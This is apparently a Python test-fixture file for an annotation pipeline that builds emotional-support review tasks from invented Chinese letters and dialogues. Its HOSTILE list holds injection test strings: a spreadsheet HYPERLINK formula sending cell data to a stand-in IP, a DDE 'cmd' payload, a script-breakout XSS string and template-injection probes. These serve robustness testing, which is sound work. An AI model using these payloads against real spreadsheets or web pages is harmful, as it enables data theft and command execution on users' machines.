"""Tasks for people, of every kind. All texts are invented, by us; some are hostile to what shows them."""

from typing import Any

from pipelines.review.contract import Kind, Task, hash_of

LETTER = (
    "最近两个月我几乎每天都睡不好。白天上班时总担心自己说错话，同事没有回消息，我就会想是不是哪里得罪了人。"
    "上周开会，主管只说了一句“下次早点交”，我回到座位上手一直发抖，晚上翻来覆去地想这句话。"
    "我知道这样不对，可是停不下来。朋友说我想太多，听了以后我更不敢跟别人讲了。"
    "我是不是太脆弱了？怎样才能不这么在意别人的看法？"
)
ANSWER = (
    "读到您写的这些，能感觉到这两个月您过得很紧绷。一句“下次早点交”就让手发抖，说明您心里一直在防着被否定，这种防备很耗力气。"
    "您问自己是不是太脆弱，我倒觉得，您一直在努力把事情做好，只是把别人的每个反应都当成了对自己的评分。"
    "不妨先试一件小事：下次又想到那句话时，把它写下来，再在旁边写一写，除了“他不满意我”，还有没有别的可能。"
    "睡不好已经两个月了，如果白天也撑不住，可以去医院的心理科看一看，让人陪着您把睡眠先理顺。"
    "另外，愿意把这些写下来，本身就是一步。您不必一个人把它想完。"
)
LEVELS = {
    "L1": "来信的人焦虑、疲惫，还有一些羞愧。处境是近来工作中的反馈：主管的一句话、没有回的消息，都被看成否定。",
    "L2": "可能的原因是把别人的反应当成评价，带有读心的倾向；“想太多”这句话又让求助者觉得自己的难受不被允许。",
    "L3": "首先想被理解：自己不是太脆弱。其次想得到一个办法，让反复想这件事的过程停下来。",
    "L4": "先说出并承接紧绷和羞愧，再把“脆弱”改写成“一直在努力”，然后给一个很小的练习，最后提到睡眠和就医。",
}
TURNS = [
    ("seeker", "我跟室友闹翻了，现在回宿舍都觉得喘不过气。"),
    ("supporter", "听起来回去这件事本身就很沉。是发生了什么，让你们闹翻的呢？"),
    ("seeker", "她把我跟她说的事讲给别人听了。我以为她是我最信任的人。"),
    ("supporter", "把最信任的人当成了退路，结果那条路断了，难怪会这么难受。"),
    ("seeker", "嗯……我现在也不知道该不该跟她说清楚，说了怕更僵，不说我天天睡不着。"),
]
STEPS = [
    "阶段：安慰\n核心问题是信任被破坏后的受伤，以及要不要当面说清楚的为难。事情已经讲明白，感受还没有被接住。",
    "情感：消极；情绪：委屈；强度：4\n被最信任的人说出去，委屈里有失望，睡不着说明强度不低。",
    "策略：情感反映\n先说出夹在“怕更僵”和“睡不着”之间的难处，再一起看怎么办。",
]
REPLIES = [
    "一边怕说了更僵，一边不说又睡不着，夹在中间的这几天一定很累。如果先不想结果，你最想让她知道的是哪一句？",
    "建议你直接找她谈一谈，把话说开就好了，室友之间没有过不去的坎。",
]
HOSTILE = [
    "=HYPERLINK(\"http://192.0.2.1/\"&A1,\"点我\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "</script><script>document.title='坏'</script><!--",
    "'\"&<>{{ 7*7 }}{% raw %}`${1}`\\u003c",
    "😀👨‍👩‍👧 e\u0301 \u202e反\u202c \u2028\u2029\x85",
    "_x000D_ _x005F_x0041_ \x00\x07\x1b \ufffe\uffff",
    "第一行\r\n第二行\r第三行\n\n  末尾有空格  ",
    " ",
    "长" * 4_000,
    "word " * 900,
    "https://example.org/" + "a" * 700,
]  # fmt: skip


def task(
    kind: Kind, name: str, content: dict[str, Any], order: list[int] | None = None, annotator: str = "p07"
) -> Task:
    return Task(
        kind=kind, task_id=f"{name}.{annotator}", item_id=name, annotator=annotator, order=order or [],
        shown=hash_of(kind, content), content=content,
    )  # fmt: skip


def coe(name: str, **texts: str) -> Task:
    return task("coe", name, {"question": LETTER, "answer": ANSWER, **LEVELS, **texts})


def cer(
    name: str, history: list[tuple[str, str]] = TURNS, steps: list[str] = STEPS, replies: list[str] = REPLIES
) -> Task:
    turns = [{"role": role, "text": text} for role, text in history]
    return task("cer", name, {"history": turns, "steps": steps, "replies": replies}, [1, 0])


def rank(name: str, many: int = 3, question: str = LETTER, answer: str = ANSWER) -> Task:
    answers = [answer, *(f"{REPLIES[n % 2]}（{n}）" for n in range(1, many))]
    return task("rank", name, {"question": question, "answers": answers}, list(range(many)))


def compare(name: str, question: str = LETTER, answers: list[str] = REPLIES) -> Task:
    return task("compare", name, {"question": question, "answers": answers}, [0, 1])


def batch(kind: Kind, many: int = 3) -> list[Task]:
    """Tasks of a kind, all of them readable."""
    make: Any = {"coe": coe, "cer": cer, "rank": rank, "compare": compare}[kind]
    return [make(f"{kind}-{n}") for n in range(many)]


def hostile(kind: Kind) -> list[Task]:
    """Tasks of a kind, one for each hostile text, which stands in all places of it."""
    make: Any = {
        "coe": lambda name, text: coe(name, question=text, answer=text, L1=text, L2=text, L3=text, L4=text),
        "cer": lambda name, text: cer(name, [("seeker", text), ("supporter", text)], [text] * 3, [text] * 2),
        "rank": lambda name, text: rank(name, question=text, answer=text),
        "compare": lambda name, text: compare(name, text, [text, text]),
    }[kind]
    return [make(f"hostile-{n}", text) for n, text in enumerate(HOSTILE)]


def suggested(task: Task, answers: dict[str, Any]) -> Task:
    """The task with what a model suggests."""
    content = {**task.content, "suggestion": answers}
    return Task.model_validate(task.model_dump() | {"content": content, "shown": hash_of(task.kind, content)})
